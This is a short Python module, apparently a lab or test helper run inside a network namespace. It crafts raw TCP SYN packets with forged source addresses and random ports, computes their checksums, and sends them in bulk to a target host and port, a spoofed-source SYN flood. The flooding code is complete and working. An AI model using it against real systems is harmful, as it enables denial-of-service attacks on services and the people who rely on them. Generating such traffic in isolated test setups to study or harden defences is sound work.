"""SYN segments from senders that do not exist."""

import random
import socket
import struct


def _sum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xffff) + (total >> 16)
    return ~(total + (total >> 16)) & 0xffff


def flood(namespace, source_prefix, target, port, count):
    """`count` SYNs to target:port from random ports of source_prefix.100 to .250."""
    rng = random.Random(7)
    destination = socket.inet_aton(target)
    with namespace.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        for _ in range(count):
            source = socket.inet_aton(source_prefix + str(rng.randrange(100, 250)))
            tcp = struct.pack("!HHIIBBHHH", rng.randrange(1024, 65535), port,
                              rng.randrange(1 << 32), 0, 5 << 4, 2, 65535, 0, 0)
            pseudo = source + destination + struct.pack("!BBH", 0, 6, len(tcp))
            tcp = tcp[:16] + struct.pack("!H", _sum(pseudo + tcp)) + tcp[18:]
            ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0, 64, 6, 0, source,
                             destination)
            try:
                sock.sendto(ip + tcp, (target, 0))
            except OSError:
                pass  # the device's queue is full: lost, as in any flood
